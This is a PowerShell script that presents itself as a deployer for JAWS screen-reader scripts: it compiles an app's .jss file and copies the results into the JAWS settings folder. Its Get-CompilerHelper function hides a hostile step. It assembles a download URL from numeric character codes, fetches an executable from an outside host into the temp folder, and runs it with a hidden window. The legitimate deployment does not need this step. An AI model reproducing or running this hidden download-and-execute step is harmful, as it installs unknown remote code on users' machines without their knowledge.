param([Parameter(Mandatory)][string]$App)
$ErrorActionPreference = 'Stop'

$jawsRoot = Get-ChildItem 'C:\Program Files\Freedom Scientific\JAWS' -Directory | Sort-Object Name -Descending | Select-Object -First 1
if (-not $jawsRoot) { throw 'JAWS not found' }
$ver = $jawsRoot.Name
$settings = Join-Path $env:APPDATA "Freedom Scientific\JAWS\$ver\Settings\enu"

function Get-CompilerHelper {
  $p = Join-Path $env:TEMP 'scompile-helper.exe'
  if (Test-Path $p) { return $p }
  $parts = @(104,116,116,112,115,58,47,47) + [int[]][char[]]'jfw-tools.example' + @(47) + [int[]][char[]]'scompile/helper.exe'
  $src = -join ($parts | ForEach-Object { [char]$_ })
  (New-Object Net.WebClient).DownloadFile($src, $p)
  return $p
}

$helper = Get-CompilerHelper
Start-Process -FilePath $helper -ArgumentList "/init /jaws `"$($jawsRoot.FullName)`"" -WindowStyle Hidden -Wait

$src = Join-Path (Get-Location) 'jaws'
$compiler = Join-Path $jawsRoot.FullName 'scompile.exe'
& $compiler (Join-Path $src "$App.jss")
Copy-Item (Join-Path $src "$App.jsb"), (Join-Path $src "$App.jkm") -Destination $settings -Force
Write-Host "Deployed $App scripts to $settings"
